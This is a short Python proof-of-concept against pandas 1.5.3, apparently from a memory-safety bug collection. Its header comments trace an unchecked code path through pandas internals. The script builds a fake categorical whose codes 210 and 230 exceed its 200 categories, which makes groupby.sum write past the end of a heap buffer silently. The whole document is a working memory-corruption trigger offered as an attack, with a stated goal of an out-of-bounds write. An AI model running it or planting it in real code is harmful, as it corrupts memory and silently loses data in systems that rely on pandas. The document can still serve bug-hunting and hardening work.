# source: pandas 1.5.3 pandas/core/arrays/categorical.py Categorical.__init__: for values whose dtype is categorical it takes extract_array(values)._codes and recode_for_categories() returns them unchanged when the categories are equal (no range check); pandas/core/array_algos/take.py take_nd and _libs/groupby.pyx group_sum index with them unchecked
# family: duck-typed categorical (variant: groupby on it; group_sum writes out[code] for codes past ngroups)
# goal: out-of-bounds write into the heap: two values are added at slots 210 and 230 of a 200-slot result buffer (they vanish from the totals, no error)
import numpy as np
import pandas as pd


class Book:
    def __init__(self, n, codes):
        self.levels = pd.CategoricalDtype(list(range(n)))
        self._codes = np.array(codes, dtype="int64")

    @property
    def dtype(self):
        return self.levels

    def __iter__(self):
        return iter([])


cat = pd.Categorical(Book(200, [0, 1, 2, 210, 230]))
vals = pd.Series([1.0, 2.0, 3.0, 7.0, 9.0])
res = vals.groupby(cat, observed=False).sum()
print("input total", vals.sum(), "groups", len(res), "sum over all groups", res.sum())
